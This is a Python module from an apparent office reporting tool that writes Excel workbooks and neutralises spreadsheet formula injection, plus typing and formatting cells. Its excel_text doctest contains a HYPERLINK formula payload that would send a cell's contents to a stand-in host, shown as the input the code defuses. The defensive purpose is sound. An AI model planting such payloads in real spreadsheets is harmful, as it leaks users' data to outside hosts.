"""Excel workbooks the office keeps: bold frozen headers, filters and fitted column widths.

Every gisgrid workbook (the weekly/monthly 诉求清单, the roster, ``stats --xlsx``) is written
by :func:`write_workbook`, and every cell goes through :func:`excel_cell`:

* text is written as text (cell type ``s``), never as a formula: a value starting with
  ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` (what OWASP
  advises against formula injection), so ``=HYPERLINK(…)`` typed by a citizen stays words;
* control characters Excel cannot hold (a vertical tab from a Word line break, ESC, BEL)
  become line breaks or are removed (:func:`gisgrid.io.text.clean_text`) instead of failing
  the whole workbook;
* numbers, dates and times stay typed (a negative number is a number, not text).
"""

from __future__ import annotations

import datetime as dt
import numbers
import os
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from gisgrid.errors import InputError
from gisgrid.io.atomic import atomic_write
from gisgrid.io.text import clean_text

#: Leading characters a spreadsheet reads as the start of a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Texts Excel reads as error values rather than words.
_ERROR_TEXTS = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})


def excel_text(text: str) -> str:
    r"""Return ``text`` safe for a cell: no control characters, no formula start.

    Examples
    --------
    >>> print(excel_text('=HYPERLINK("http://x.example/?"&A1,"详情")'))
    '=HYPERLINK("http://x.example/?"&A1,"详情")
    >>> excel_text("-5楼漏水"), excel_text("路灯\x0b不亮")
    ("'-5楼漏水", '路灯\n不亮')
    """
    text = clean_text(text)
    return "'" + text if text.startswith(FORMULA_START) else text


def excel_cell(value: Any) -> Any:
    """Return ``value`` as a workbook cell takes it: text made safe, numbers and dates typed.

    Missing values (None, NaN, NaT) become empty cells; a time-zone-aware time becomes China
    local time (Excel has no time zones); anything else is written as its text.
    """
    if type(value) is str:
        return excel_text(value)
    if value is None:
        return None
    if isinstance(value, bool | np.bool_):
        return bool(value)
    if isinstance(value, numbers.Number) and not isinstance(value, complex):
        return value if np.isfinite(float(value)) else None
    if isinstance(value, np.datetime64):
        value = pd.Timestamp(value)
    if isinstance(value, dt.datetime):  # pd.Timestamp too
        if pd.isna(value):
            return None
        if value.tzinfo is not None:
            value = pd.Timestamp(value).tz_convert("Asia/Shanghai").tz_localize(None)
        return value.to_pydatetime() if isinstance(value, pd.Timestamp) else value
    if isinstance(value, pd.Timedelta):
        return None if pd.isna(value) else value.to_pytimedelta()
    if isinstance(value, dt.date | dt.time | dt.timedelta):
        return value
    if isinstance(value, str):  # a str subclass
        return excel_text(str(value))
    try:
        if pd.isna(value):
            return None
    except (TypeError, ValueError):  # arrays and other containers
        pass
    return excel_text(str(value))


def _text_cell(sheet: Any, value: Any) -> Any:
    """Return ``value``, or a text cell for a text Excel would read as an error (``#N/A``)."""
    if type(value) is str and value in _ERROR_TEXTS:
        from openpyxl.cell.cell import Cell

        cell = Cell(sheet, value=value)
        cell.data_type = "s"
        return cell
    return value


def _width(values: pd.Series, header: str) -> float:
    def display(text: str) -> int:  # CJK characters take two columns
        return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)

    longest = max([display(str(header))] + [display(str(v)) for v in values.head(500)])
    return min(max(8, longest + 2), 60)


def sheet_title(name: object) -> str:
    """Return ``name`` as a legal sheet title: none of the characters Excel forbids, <= 31."""
    title = re.sub(r"[\[\]:*?/\\]", "、", clean_text(str(name))).strip("'") or "Sheet"
    return title[:31]


def write_workbook(path: str | os.PathLike, sheets: dict[str, pd.DataFrame]) -> Path:
    """Write ``sheets`` (sheet name → table) to an .xlsx file, atomically.

    Each sheet gets a bold, frozen header row, an auto-filter and column widths fitted to the
    content (CJK characters counted double). Cells are written through :func:`excel_cell`:
    text as text with formulas neutralised and control characters cleaned, numbers and dates
    typed.
    """
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    path = Path(path)
    if path.suffix.lower() != ".xlsx":
        raise InputError(f"{path.name}: give an .xlsx file name for the Excel export")
    if not sheets:  # Excel cannot open a workbook without a sheet
        raise InputError(f"{path.name}: nothing to write; there is no table to put in it")
    book = Workbook()
    book.remove(book.active)
    header_fill = PatternFill("solid", fgColor="DDEBF7")
    for name, table in sheets.items():
        sheet = book.create_sheet(title=sheet_title(name))
        sheet.append([_text_cell(sheet, excel_text(str(c))) for c in table.columns])
        for row in table.itertuples(index=False):
            sheet.append([_text_cell(sheet, excel_cell(v)) for v in row])
        for cell in sheet[1]:
            cell.font = Font(bold=True)
            cell.fill = header_fill
            cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
        sheet.freeze_panes = "A2"
        if len(table.columns):
            sheet.auto_filter.ref = sheet.dimensions
        for i, column in enumerate(table.columns, start=1):
            sheet.column_dimensions[get_column_letter(i)].width = _width(table[column], column)
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with atomic_write(path) as tmp:  # the umask's mode, not mkstemp's 0600
            book.save(tmp)
    except OSError as exc:
        raise InputError(f"cannot write {path}: {exc.strerror}; is it open in Excel?") from exc
    return path
